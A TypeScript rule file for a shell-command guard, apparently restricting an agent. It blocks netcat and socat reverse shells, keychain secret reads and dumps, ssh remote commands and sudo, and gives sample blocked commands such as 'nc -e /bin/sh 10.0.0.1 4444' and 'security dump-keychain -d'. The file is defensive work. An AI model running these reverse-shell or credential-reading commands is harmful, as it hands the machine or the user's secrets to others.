/** Which programs open this machine to others, or hand out what unlocks others? */
import type { RuleFamily } from './rule.ts';

export const networkRules: RuleFamily = {
  nc: [
    {
      id: 'reverse-shell',
      level: 'destructive',
      runs: ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'],
      why: 'it hands a shell of this machine to whoever connects',
      instead: 'test a port with "nc -z"',
      passes: 'nc -z localhost 80',
      stops: ['nc -e /bin/sh 10.0.0.1 4444', 'ncat --exec /bin/bash 10.0.0.1 4444', 'nc -lvp 4444 -e /bin/sh'],
    },
  ],
  socat: [
    {
      id: 'reverse-shell',
      level: 'destructive',
      runs: ['** exec:*|system:*|shell:*'],
      why: 'it hands a program of this machine to whoever connects',
      instead: 'forward a port without EXEC',
      passes: 'socat TCP-LISTEN:80,fork TCP:localhost:8080',
      stops: ['socat TCP:10.0.0.1:4444 EXEC:/bin/sh', 'socat exec:bash,pty tcp:a:1'],
    },
  ],
  security: [
    {
      id: 'read-keychain',
      level: 'destructive',
      runs: [
        'find-generic-password|find-internet-password -w|-g',
        'dump-keychain|export|delete-keychain|delete-generic-password|delete-internet-password|unlock-keychain',
      ],
      why: 'it reads or deletes what the user keeps secret',
      instead: 'let the program that needs it ask for it',
      passes: 'security list-keychains',
      stops: ['security find-generic-password -s a -w', 'security dump-keychain -d'],
    },
  ],
  'secret-tool': [
    {
      id: 'read-keychain',
      level: 'destructive',
      runs: ['lookup|clear|search'],
      why: 'it reads or deletes what the user keeps secret',
      instead: 'let the program that needs it ask for it',
      passes: 'secret-tool store --label=a b c',
      stops: ['secret-tool lookup service a'],
    },
  ],
  ssh: [
    {
      id: 'remote-command',
      level: 'strict',
      runs: ['!-V !-G !-Q'],
      why: 'nobody checks what runs on the other machine',
      instead: 'show the command and ask the user to run it there',
      passes: 'ssh -V',
      stops: ['ssh host uptime'],
    },
  ],
  sudo: [
    {
      id: 'sudo',
      level: 'strict',
      runs: ['!-k !-K !-v !-l'],
      why: 'it runs with the rights of another user',
      instead: 'do it without, or ask the user to',
      passes: 'id -u',
      stops: ['sudo ls', 'doas ls', 'sudo -u root id'],
    },
  ],
};
